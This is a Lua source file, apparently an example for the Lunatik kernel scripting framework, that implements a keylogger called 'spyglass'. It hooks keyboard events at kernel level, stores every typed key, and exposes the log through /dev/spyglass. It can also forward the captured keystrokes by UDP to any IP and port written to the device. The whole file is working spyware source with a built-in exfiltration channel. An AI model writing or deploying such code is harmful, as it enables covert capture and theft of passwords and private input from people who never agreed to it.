--
-- spyglass: a keylogger. /dev/spyglass gives what was typed since the last read (control keys
-- as <cr>, <esc>, <del>, <tab>, <nl>; other keys as <nil>). Writing "enable=false" stops the
-- logging and "enable=true" starts it again; "net=IP:PORT" sends the log by UDP to that address
-- at each read instead (the read then gives nothing), "net=" anything else stops sending.
--   sudo lunatik run examples/spyglass
--   cat /dev/spyglass
--

local notifier = require("notifier")
local device = require("device")
local inet = require("socket.inet")

local notify = notifier.notify
local kbd = notifier.kbd

local LATIN = 0x0
local LETTER = 0xb
local ENTER = 0xf201

local control = {[0x09] = "<tab>", [0x0a] = "<nl>", [0x0d] = "<cr>", [0x1b] = "<esc>", [0x7f] = "<del>"}

local log = {}
local enabled = true
local udp, addr, port

local function text(keysym)
	local kind, char = (keysym >> 8) & 0x0f, keysym & 0xff
	if kind == LATIN or kind == LETTER then
		if char >= 32 and char <= 126 then
			return string.char(char)
		end
		return control[char] or "<nil>"
	end
	return keysym == ENTER and "<cr>" or "<nil>"
end

local function spy(event, down, shift, value)
	if enabled and not down and event == kbd.KEYSYM then
		log[#log + 1] = text(value)
	end
	return notify.OK
end

local function nop() end

local driver = {name = "spyglass", open = nop, release = nop}

function driver:read()
	local typed = table.concat(log)
	log = {}
	if udp then
		if #typed > 0 then
			udp:send(typed, addr, port)
		end
		return ""
	end
	return typed
end

function driver:write(buf)
	local enable = string.match(buf, "^enable=(%a+)")
	local net = string.match(buf, "^net=(.*)")
	if enable then
		enabled = enable == "true"
	elseif net then
		local ip, p = string.match(net, "^(%d+%.%d+%.%d+%.%d+):(%d+)")
		if udp then
			udp:close()
			udp = nil
		end
		if ip then
			udp = inet.udp()
			addr, port = ip, tonumber(p)
		end
	end
end

notifier.keyboard(spy)
device.new(driver)
